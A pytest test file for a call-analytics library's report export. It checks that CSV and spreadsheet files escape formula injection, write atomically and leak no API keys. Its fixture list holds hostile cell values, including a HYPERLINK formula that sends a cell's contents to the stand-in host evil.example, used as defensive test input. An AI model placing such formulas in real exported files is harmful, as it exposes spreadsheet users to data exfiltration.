"""export_report / write_csv / read_report_csv: safe, faithful, traceable, atomic report files.

The CSVs a manager double-clicks are checked as LibreOffice opens them (converted to .xlsx by
soffice and read back with openpyxl): real dates, percentages, characters, no formula.
"""

from __future__ import annotations

import copy
import csv
import errno
import hashlib
import json
import math
import os
import re
import secrets
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import callcov_analytics
from callcov_analytics import (
    StorageError,
    ValidationError,
    load_calls,
    metrics,
    report,
    sandbox,
    to_frame,
)
from callcov_analytics._decode.frame import empty_frame
from callcov_analytics._report.workbook import agent_summary
from callcov_analytics.report import (
    export_report,
    neutralize,
    read_report_csv,
    write_csv,
    write_parquet,
)

CSV_FILES = (
    "calls.csv",
    "agent_summary.csv",
    "agent_detail.csv",
    "daily_volume.csv",
    "compliance_exceptions.csv",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1 555 0100",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "''two quotes",
    "=",
    "",
    "plain text",
    'she said "hi", then left',
    "line one\nline two\r\nline three",
    "emoji 😀👍🏽 and CJK 通話",
    "RTL \u202e\u05e2\u05d1\u05e8\u05d9\u05ea\u202c \u0645\u0631\u062d\u0628\u0627",
    "a,b;c\td",
    " =leading space",
]


def _record(i: int, text: str, status: str = "completed") -> dict[str, Any]:
    """A full analysis object (docs/api.md §3) with `text` in every caller-controlled string."""
    done = status == "completed"
    return {
        "id": f"{text}#{i}",
        "object": "analysis",
        "created": 1_790_000_000 + i * 3_600,
        "status": status,
        "livemode": False,
        "call": {
            "agent_id": text or f"agent-{i % 3}",
            "contact_id": f"{text}-contact",
            "duration_ms": -5 if i == 0 else 60_000 + i,  # a negative number stays a number
            "duration_seconds": -0.005 if i == 0 else 60.0 + i / 1000,
        },
        "audio": {
            "url": f"https://a.example/{i}.wav?q={text}",
            "size_bytes": 10 * i,
            "format": "wav",
            "duration_seconds": 60.5,
        },
        "transcript": {
            "text": text,
            "language": "en",
            "segments": [{"speaker": "A", "text": text, "start": 0.0, "end": 1.0}],
        }
        if done
        else None,
        "results": {
            "compliance": {
                "identity_verification": {
                    "verified": i % 2 == 0,
                    "timestamp": 3.5,
                    "flagged": False,
                },
                "mandatory_disclosures": {
                    "read": True,
                    "matched_disclosures": ["A"],
                    "missing_disclosures": [text] if i % 3 else [],
                },
                "purpose_declaration": {
                    "disclosed": True,
                    "interaction_number": 1,
                    "flagged": False,
                },
                "prohibited_phrases": {
                    "used": i % 4 == 0,
                    "instances": [{"phrase": text, "timestamp": 9.0}],
                },
                "sensitive_data": {"shared": False, "instances": []},
            },
            "quality": {
                "greeting": {"present": True, "timestamp": 0.5},
                "sentiment_analysis": {
                    "overall": "neutral",
                    "customer_start": "negative",
                    "customer_end": "positive",
                },
                "empathy": {"count": 2},
                "interruptions": {"count": 1},
                "call_structure": {"opening": True, "resolution": False, "closing": True},
            },
            "coaching": {
                "customer_effort_score": i % 6,
                "recommendations": [{"priority": "high", "category": text, "text": text}],
            },
        }
        if done
        else None,
        "metadata": {
            "webhook_url": None,
            "completed_at": None,
            "processing_time_ms": 5,
            "error_message": text if status == "failed" else None,
        },
        "=unknown_field": text,  # an undocumented field becomes a column with a hostile name
    }


@pytest.fixture
def hostile() -> pd.DataFrame:
    """Formula-like, multi-line, quoted, unicode and empty text in every text column."""
    return _hostile()


def _hostile() -> pd.DataFrame:
    statuses = ("completed", "failed", "processing")
    records = [_record(i, t, statuses[i % 3]) for i, t in enumerate(HOSTILE)]
    df = to_frame(records, include_transcript=True)
    df.attrs.update(
        {
            "query": {"status_filter": None},
            "key_hint": "sk_test_…abcd",
            "base_url": "http://127.0.0.1:1/api/v1",
            "requests": 1,
            "throttled": 0,
        }
    )
    return df


@pytest.fixture(scope="module")
def loaded() -> Iterator[tuple[pd.DataFrame, str]]:
    """A real load over HTTP (with its random sandbox key) and the key."""
    with sandbox.serve(plan="enterprise", n_analyses=400) as api:
        df = load_calls(api.key, api.url, include_transcript=True, progress=False)
        yield df, api.key


def _text_columns(df: pd.DataFrame) -> list[str]:
    return [
        c
        for c, t in df.dtypes.items()
        if isinstance(t, pd.CategoricalDtype) or pd.api.types.is_string_dtype(t)
    ]


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f, dialect="excel"))


def test_neutralize_follows_owasp_and_is_reversible() -> None:
    for text in HOSTILE:
        safe = neutralize(text)
        assert not safe.startswith(TRIGGERS)
        assert (safe[1:] if safe.startswith("'") else safe) == text
    assert neutralize("-5") == "'-5"  # as *text*; numeric columns never pass through here
    assert neutralize("plain") == "plain"


@pytest.mark.parametrize("machine", [True, False])
def test_hostile_cells_are_escaped_cell_by_cell(
    hostile: pd.DataFrame, tmp_path: Path, machine: bool
) -> None:
    path = write_csv(hostile, tmp_path / "calls.csv", machine=machine)
    header, *rows = _rows(path)
    zoned = {"created", "completed_at"} if not machine else set()  # "created (UTC)"
    assert header == [neutralize(f"{c} (UTC)" if c in zoned else str(c)) for c in hostile.columns]
    assert "'=unknown_field" in header
    assert len(rows) == len(hostile)
    text = set(_text_columns(hostile))
    assert {"id", "agent_id", "contact_id", "transcript_text", "audio_url"} <= text
    for r, row in enumerate(rows):
        for c, (name, cell) in enumerate(zip(hostile.columns, row, strict=True)):
            value = hostile.iat[r, c]
            if name in text:
                expected = "" if pd.isna(value) else neutralize(str(value))
                assert cell == expected, (name, r)
            assert not cell.startswith(TRIGGERS) or name not in text
    durations = [row[list(hostile.columns).index("duration_ms")] for row in rows]
    assert durations[0] == "-5"  # the number, not the text '-5
    raw = path.read_text("utf-8")
    assert ",-5," in raw and (",-0.005," if machine else ",-0.01,") in raw


def test_machine_round_trip_restores_values_and_dtypes(
    hostile: pd.DataFrame, tmp_path: Path
) -> None:
    folder = export_report(hostile, tmp_path / "r", charts=False, machine=True)
    back = read_report_csv(folder / "calls.csv")
    pd.testing.assert_frame_equal(back, hostile.reset_index(drop=True))
    summaries = {
        "agent_summary.csv": agent_summary(metrics.agent_scorecard(hostile, detail=True)),
        "agent_detail.csv": metrics.agent_scorecard(hostile, detail=True),
        "daily_volume.csv": metrics.volume(hostile, "D"),
        "compliance_exceptions.csv": metrics.compliance_exceptions(hostile),
    }
    for name, expected in summaries.items():
        pd.testing.assert_frame_equal(read_report_csv(folder / name), expected, obj=name)


def test_spreadsheet_csv_bom_wall_clock_and_rounded(hostile: pd.DataFrame, tmp_path: Path) -> None:
    folder = export_report(hostile, tmp_path / "r", charts=False, tz="Europe/London")
    raw = (folder / "calls.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    header, first, *_ = _rows(folder / "calls.csv")
    created = first[header.index("created (Europe/London)")]
    london = hostile["created"].iloc[0].tz_convert("Europe/London")
    assert created == london.strftime("%Y-%m-%d %H:%M:%S")  # no T, no offset
    assert first[header.index("duration_seconds")] == "-0.01"  # two places
    back = read_report_csv(folder / "calls.csv")
    pd.testing.assert_frame_equal(back, hostile, check_exact=False, atol=0.0051)  # half a cent
    days, *_ = _rows(folder / "daily_volume.csv")[1:]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", days[0])  # a day column: dates only
    card_header, *card = _rows(folder / "agent_detail.csv")
    shares = metrics.agent_scorecard(hostile, detail=True)["flagged_share"]
    for row, share in zip(card, shares, strict=True):
        rate = row[card_header.index("flagged_share")]
        if pd.isna(share):
            assert rate == ""
            continue
        assert re.fullmatch(r"\d{1,3}\.\d%", rate), rate
        assert float(rate[:-1]) == pytest.approx(share * 100, abs=0.05)
    assert shares.notna().any()


def test_machine_csv_has_no_bom_and_iso_dates_with_offset(
    hostile: pd.DataFrame, tmp_path: Path
) -> None:
    path = write_csv(hostile, tmp_path / "c.csv", machine=True)
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")
    header, first, *_ = _rows(path)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", first[header.index("created")])


def test_plain_pandas_recipe_from_the_docstring(hostile: pd.DataFrame, tmp_path: Path) -> None:
    path = write_csv(hostile, tmp_path / "c.csv")
    df = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=[""])
    ids = df["id"].str.removeprefix("'")
    assert ids.tolist() == hostile["id"].tolist()
    assert pd.to_numeric(df["duration_ms"]).iloc[0] == -5


def test_empty_results(tmp_path: Path) -> None:
    df = empty_frame(include_transcript=True)
    folder = export_report(df, tmp_path / "empty")
    manifest = json.loads((folder / "manifest.json").read_text())
    assert {f: manifest["files"][f]["rows"] for f in CSV_FILES} == dict.fromkeys(CSV_FILES, 0)
    assert manifest["time_range"] == {"first_created": None, "last_created": None}
    for name in CSV_FILES:
        assert len(_rows(folder / name)) == 1  # the header only
    pd.testing.assert_frame_equal(read_report_csv(folder / "calls.csv"), df)


def test_manifest_checksums_schema_and_no_key(
    loaded: tuple[pd.DataFrame, str], tmp_path: Path
) -> None:
    df, key = loaded
    extra = "sk_live_" + secrets.token_urlsafe(24)
    folder = export_report(
        df, tmp_path / "r", parquet=True, query={**df.attrs["query"], "api_key": extra}
    )
    manifest = json.loads((folder / "manifest.json").read_text("utf-8"))
    on_disk = {p.name for p in folder.iterdir()} - {"manifest.json"}
    assert set(manifest["files"]) == on_disk
    for name, entry in manifest["files"].items():
        data = (folder / name).read_bytes()
        assert entry["sha256"] == hashlib.sha256(data).hexdigest()
        assert entry["bytes"] == len(data)
    assert manifest["files"]["calls.csv"]["rows"] == len(df)
    assert manifest["files"]["calls.csv"]["schema"]["created"] == "datetime64[ns, UTC]"
    assert manifest["key_hint"] == df.attrs["key_hint"] and manifest["key_hint"].endswith(key[-4:])
    assert "api_key" not in manifest["query"]
    assert manifest["version"] and manifest["created_at"].endswith("+00:00")
    assert manifest["time_range"]["first_created"] == df["created"].min().isoformat()
    for path in folder.iterdir():
        data = path.read_bytes()
        for secret in (key, extra, key.split("_", 2)[2]):
            assert secret.encode() not in data, path.name


def test_parquet_keeps_exact_dtypes(loaded: tuple[pd.DataFrame, str], tmp_path: Path) -> None:
    df, _ = loaded
    path = write_parquet(df, tmp_path / "calls.parquet")
    pd.testing.assert_frame_equal(pd.read_parquet(path), df)


def test_charts_when_available(loaded: tuple[pd.DataFrame, str], tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    df, _ = loaded
    folder = export_report(df, tmp_path / "r")
    pngs = sorted(p.name for p in folder.glob("*.png"))
    assert "daily_volume.png" in pngs and len(pngs) >= 2
    assert "quota.png" not in pngs  # an engineer's chart: notebooks and the demo's console
    assert all((folder / p).read_bytes().startswith(b"\x89PNG") for p in pngs)
    assert not list(export_report(df, tmp_path / "r2", charts=False).glob("*.png"))


def test_charts_skipped_without_plots(
    hostile: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "callcov_analytics.plots", None)  # import now fails
    monkeypatch.delattr(callcov_analytics, "plots", raising=False)
    folder = export_report(hostile, tmp_path / "r")
    assert not list(folder.glob("*.png"))
    assert json.loads((folder / "manifest.json").read_text())["charts"].startswith("skipped")


def _leftovers(parent: Path) -> list[str]:
    return sorted(p.name for p in parent.iterdir())


def test_crash_after_first_file_leaves_nothing(
    hostile: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = report.write_csv_file
    calls = []

    def crash_on_second(frame: pd.DataFrame, path: Path, machine: bool, tz: str) -> None:
        calls.append(path.name)
        if len(calls) == 2:
            raise RuntimeError("simulated crash mid-export")
        real(frame, path, machine, tz)

    monkeypatch.setattr(report, "write_csv_file", crash_on_second)
    with pytest.raises(RuntimeError, match="simulated"):
        export_report(hostile, tmp_path / "r", charts=False)
    assert _leftovers(tmp_path) == []


def test_crash_inside_a_file_write_leaves_no_partial_file(
    hostile: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def half_then_die(self: Any, out: Any, **kwargs: Any) -> None:
        out.write(b"PAR1 half a file")
        raise KeyboardInterrupt

    monkeypatch.setattr(pd.DataFrame, "to_parquet", half_then_die)
    with pytest.raises(KeyboardInterrupt):
        write_parquet(hostile, tmp_path / "calls.parquet")
    with pytest.raises(KeyboardInterrupt):
        export_report(hostile, tmp_path / "r", parquet=True, charts=False)
    assert _leftovers(tmp_path) == []


def test_failed_rename_is_a_storage_error_and_keeps_the_old_report(
    hostile: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    old = export_report(hostile, tmp_path / "r", charts=False)
    before = (old / "manifest.json").read_bytes()

    def no_space(src: Any, dst: Any) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(report.os, "replace", no_space)
    with pytest.raises(StorageError, match="disk is full") as info:
        export_report(hostile, tmp_path / "r", charts=False, overwrite=True)
    assert isinstance(info.value, OSError)
    assert isinstance(info.value.__cause__, OSError) and info.value.__cause__.errno == errno.ENOSPC
    assert "nothing was written" in str(info.value)
    assert (old / "manifest.json").read_bytes() == before
    assert _leftovers(tmp_path) == ["r"]
    with pytest.raises(StorageError):
        write_csv(hostile, tmp_path / "single.csv")
    assert _leftovers(tmp_path) == ["r"]


def test_unwritable_folder_is_a_storage_error(
    hostile: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o555)
    try:
        if os.access(locked, os.W_OK):  # root ignores modes: make mkdir fail as it would

            def denied(path: Any, mode: int = 0o777) -> None:
                raise PermissionError(errno.EACCES, "Permission denied", str(path))

            monkeypatch.setattr(report.os, "mkdir", denied)
        with pytest.raises(StorageError, match="no permission"):
            export_report(hostile, locked / "r", charts=False)
        assert _leftovers(locked) == []
    finally:
        locked.chmod(0o755)


def test_existing_target_rules(hostile: pd.DataFrame, tmp_path: Path) -> None:
    first = export_report(hostile, tmp_path / "r", charts=False)
    with pytest.raises(ValidationError, match="already exists"):
        export_report(hostile, first, charts=False)
    stamp = json.loads((first / "manifest.json").read_text())["created_at"]
    assert export_report(hostile, first, charts=False, overwrite=True) == first
    assert json.loads((first / "manifest.json").read_text())["created_at"] >= stamp
    assert _leftovers(tmp_path) == ["r"]

    precious = tmp_path / "home"
    precious.mkdir()
    (precious / "thesis.docx").write_text("years of work")
    with pytest.raises(ValidationError, match="not a report folder"):
        export_report(hostile, precious, charts=False, overwrite=True)
    assert (precious / "thesis.docx").read_text() == "years of work"

    empty = tmp_path / "made-for-it"
    empty.mkdir()
    assert (export_report(hostile, empty, charts=False) / "calls.csv").is_file()


def test_query_argument_overrides_attrs(hostile: pd.DataFrame, tmp_path: Path) -> None:
    frame = copy.deepcopy(hostile)
    folder = export_report(frame, tmp_path / "r", charts=False, query={"agent_id": "a-1"})
    assert json.loads((folder / "manifest.json").read_text())["query"] == {"agent_id": "a-1"}


def _soffice(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.fail("LibreOffice (soffice) is missing: run `make system-deps` as root")
    profile = f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}"
    return subprocess.run(
        [soffice, profile, "--headless", *args],
        capture_output=True,
        text=True,
        timeout=170,
        check=False,
    )


# LibreOffice's import dialog preselects UTF-8 when the file starts with a BOM ("Sniff for
# Unicode"); headless, without the dialog, the filter options say so. "Detect special numbers"
# (the 8th option) is ticked here; out of the box it is not, and then LibreOffice takes only
# ISO dates (2026-11-01) and ISO date-times with a T for dates, which Excel does not: see
# test_libreoffice_out_of_the_box_reads_days_as_dates.
_DOUBLE_CLICK = "CSV:44,34,76,1,,0,false,true"
_OUT_OF_THE_BOX = "CSV:44,34,76,1,,0,false,false"


@pytest.fixture(scope="module")
def opened(
    loaded: tuple[pd.DataFrame, str], tmp_path_factory: pytest.TempPathFactory
) -> tuple[Path, dict[str, Any]]:
    """A report folder's CSVs as LibreOffice opens them (one conversion for all five)."""
    import openpyxl

    df, _ = loaded
    root = tmp_path_factory.mktemp("lo")
    folder = export_report(df, root / "r", charts=False, workbook=False, tz="Europe/London")
    names = [*CSV_FILES, "hostile.csv"]
    write_csv(_hostile(), folder / "hostile.csv")
    out = root / "xlsx"
    done = _soffice(
        root, f"--infilter={_DOUBLE_CLICK}", "--convert-to", "xlsx", "--outdir", str(out),
        *(str(folder / name) for name in names),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    sheets = {name: openpyxl.load_workbook(out / name.replace(".csv", ".xlsx")).active
              for name in names}  # fmt: skip
    return folder, sheets


def test_libreoffice_opens_real_dates_percentages_and_characters(
    opened: tuple[Path, dict[str, Any]], loaded: tuple[pd.DataFrame, str]
) -> None:
    df, _ = loaded
    _, sheets = opened
    calls = sheets["calls.csv"]
    header = [c.value for c in calls[1]]
    assert header[0] == "id"  # the BOM is not shown as ï»¿
    col = header.index("created (Europe/London)") + 1
    first = calls.cell(2, col)
    assert first.is_date, (first.value, first.number_format)
    want = df["created"].iloc[0].tz_convert("Europe/London").tz_localize(None).to_pydatetime()
    assert first.value == want
    days = sheets["daily_volume.csv"]
    assert days.cell(1, 1).value == "period (Europe/London)"
    assert days.cell(2, 1).is_date
    card = sheets["agent_detail.csv"]
    card_header = [c.value for c in card[1]]
    share = card.cell(2, card_header.index("flagged_share") + 1)
    assert share.data_type == "n" and "%" in share.number_format
    expected = metrics.agent_scorecard(df, detail=True)["flagged_share"].iloc[0]
    assert share.value == pytest.approx(expected, abs=0.0005)  # 51.9%: rounded to 0.1%
    summary = sheets["agent_summary.csv"]
    rates = [c.value for c in summary[2]][3:9]
    assert all(re.fullmatch(r"[<>]?\d+% \(\d+–\d+%\)|no data", r) for r in rates), rates
    talk = days.cell(2, [c.value for c in days[1]].index("talk_minutes") + 1)
    assert talk.data_type == "n" and talk.value == round(talk.value, 2)
    for ws in sheets.values():  # no cell became a formula
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_libreoffice_out_of_the_box_reads_days_as_dates(
    opened: tuple[Path, dict[str, Any]], tmp_path: Path
) -> None:
    """With the import dialog's defaults, a day column is a date and the en dash survives."""
    import openpyxl

    folder, _ = opened
    names = ("daily_volume.csv", "agent_summary.csv")
    done = _soffice(
        tmp_path, f"--infilter={_OUT_OF_THE_BOX}", "--convert-to", "xlsx", "--outdir",
        str(tmp_path / "x"), *(str(folder / n) for n in names),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    days = openpyxl.load_workbook(tmp_path / "x" / "daily_volume.xlsx").active
    assert days.cell(1, 1).value == "period (Europe/London)"
    assert days.cell(2, 1).is_date, days.cell(2, 1).value
    summary = openpyxl.load_workbook(tmp_path / "x" / "agent_summary.xlsx").active
    rates = [c.value for c in summary[2]][3:9]
    assert any("–" in str(r) for r in rates), rates


def test_libreoffice_shows_hostile_text_as_text(opened: tuple[Path, dict[str, Any]]) -> None:
    ws = opened[1]["hostile.csv"]
    header = [c.value for c in ws[1]]
    agents = [ws.cell(r, header.index("agent_id") + 1).value for r in range(2, ws.max_row + 1)]
    assert agents[0] == neutralize(HOSTILE[0]) and agents[0].startswith("'=HYPERLINK")
    assert "emoji 😀👍🏽 and CJK 通話" in agents  # every character survives
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_agent_summary_csv_is_the_ten_rounded_columns(
    loaded: tuple[pd.DataFrame, str], tmp_path: Path
) -> None:
    df, _ = loaded
    folder = export_report(df, tmp_path / "r", charts=False)
    header, *rows = _rows(folder / "agent_summary.csv")
    assert header == ["agent_id", "calls", "analysed", *metrics.CHECKS, "flagged", "rank"]
    card = metrics.agent_scorecard(df, detail=True)
    assert [r[0] for r in rows] == card["agent_id"].map(neutralize).tolist()
    for row, want in zip(rows, card.itertuples(), strict=True):
        low = math.floor(want.flagged_ci_low * 100 + 1e-9)  # rounded outward
        high = math.ceil(want.flagged_ci_high * 100 - 1e-9)
        assert row[8].endswith(f"({low}–{high}%)"), row
        assert low <= want.flagged_share * 100 <= high
        assert row[9] == ("" if pd.isna(want.rank) else str(want.rank))


def test_xlsx_and_file_names_never_become_folders(hostile: pd.DataFrame, tmp_path: Path) -> None:
    book = export_report(hostile, tmp_path / "rep.xlsx")
    assert book.is_file() and book.read_bytes().startswith(b"PK")
    one = export_report(hostile, tmp_path / "rep.csv")  # the calls, one CSV
    assert one.is_file() and one.read_bytes().startswith(b"\xef\xbb\xbf")
    with pytest.raises(ValidationError, match="already exists"):
        export_report(hostile, one)
    assert export_report(hostile, one, overwrite=True, machine=True) == one
    assert not one.read_bytes().startswith(b"\xef\xbb\xbf")
    with pytest.raises(ValidationError, match=r"not a \.parquet file.*parquet=True"):
        export_report(hostile, tmp_path / "rep.parquet")
    with pytest.raises(ValidationError, match=r"a \.csv file has no room"):
        export_report(hostile, tmp_path / "other.csv", parquet=True)
    with pytest.raises(ValidationError, match=r"machine \(--machine\) shapes CSVs"):
        export_report(hostile, tmp_path / "other.xlsx", machine=True)
    assert _leftovers(tmp_path) == ["rep.csv", "rep.xlsx"]


def test_manifest_has_iso_times_beside_epochs_and_the_zone(
    hostile: pd.DataFrame, tmp_path: Path
) -> None:
    query = {"since": 1_795_392_000, "until": 1_796_083_199}
    folder = export_report(
        hostile, tmp_path / "r", charts=False, query=query, tz="Europe/London", machine=True
    )
    manifest = json.loads((folder / "manifest.json").read_text("utf-8"))
    assert manifest["query"]["since"] == 1_795_392_000
    assert manifest["query"]["since_utc"] == "2026-11-23T00:00:00+00:00"
    assert manifest["query"]["until_utc"] == "2026-11-30T23:59:59+00:00"
    assert manifest["time_zone"] == "Europe/London"
    assert manifest["files"]["report.xlsx"]["sheets"]["Calls"] == len(hostile)
    days = read_report_csv(folder / "daily_volume.csv")
    assert str(days["period"].dt.tz) == "Europe/London"
    pd.testing.assert_frame_equal(days, metrics.volume(hostile, tz="Europe/London"))
